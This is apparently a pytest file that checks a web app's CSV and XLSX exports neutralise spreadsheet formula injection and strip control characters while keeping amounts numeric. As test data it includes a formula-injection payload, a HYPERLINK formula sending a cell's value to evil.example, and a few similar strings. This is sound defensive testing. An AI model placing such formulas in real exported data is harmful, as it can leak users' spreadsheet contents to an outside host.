"""The web edges (issue 13, point 5): exports that cannot inject formulas, a body limit
on every route, rate limits on the public paths, the client IP behind trusted proxies,
and outbound webhooks that cannot be pointed at internal addresses."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from openpyxl import load_workbook

from domain.spreadsheet import inert_text, xlsx_text
from starter.api.routers.reports import tabular_response
from tests.conftest import Stack
from tests.helpers import create_client

# --- exports -------------------------------------------------------------------------------


def test_text_that_a_spreadsheet_would_run_is_prefixed_and_other_text_is_not() -> None:
    for formula in ("=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert inert_text(formula) == "'" + formula
    for text in ("Alfa SRL", "", "1=1", " =1", "'=1"):
        assert inert_text(text) == text
    assert xlsx_text("A\x07B\x00C\x1f") == "ABC"
    # A control character cannot hide a formula behind it.
    assert xlsx_text("\x01=1+2") == "'=1+2"
    assert xlsx_text("line\nnext\ttab") == "line\nnext\ttab"


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


async def test_exports_never_hand_a_spreadsheet_a_formula_or_an_illegal_character(
    stack: Stack,
) -> None:
    await create_client(stack, name=EVIL, address="@SUM(1+1)")
    await create_client(stack, name="-2+3", address="Str. -")
    controlled = await create_client(stack, name="Bell SRL", address="Str. Unu")
    # The API may refuse control characters in new names; one stored earlier must still
    # export.
    await stack.db.execute(
        "UPDATE clients SET name = $1 WHERE id = $2::uuid", "Bell\x07 SRL", controlled
    )

    response = await stack.api.get("/api/v1/exports/clients.csv")
    assert response.status_code == 200
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(response.text))}
    names = sorted(r["name"] for r in rows.values())
    assert names == sorted(["'" + EVIL, "'-2+3", "Bell\x07 SRL"])
    assert {r["address"] for r in rows.values()} >= {"'@SUM(1+1)", "Str. -"}

    xlsx = await stack.api.get("/api/v1/exports/clients.xlsx")
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("name")] for row in sheet.iter_rows(min_row=2)]
    assert sorted(str(c.value) for c in cells) == sorted(["'" + EVIL, "'-2+3", "Bell SRL"])
    assert all(c.data_type == "s" for c in cells)


def test_amounts_in_exports_stay_numbers() -> None:
    # Numbers are not text: a negative amount must not become "'-10.00".
    answer = tabular_response("t.xlsx", ["amount", "note"], [[Decimal("-10.00"), "-x"]])
    sheet = load_workbook(io.BytesIO(bytes(answer.body))).active
    assert sheet is not None
    amount, note = sheet[2]
    assert amount.value == -10 and amount.data_type == "n"
    assert note.value == "'-x"
    answer = tabular_response("t.csv", ["amount", "note"], [[Decimal("-10.00"), "-x"]])
    assert bytes(answer.body).decode().splitlines()[1] == "-10.00,'-x"
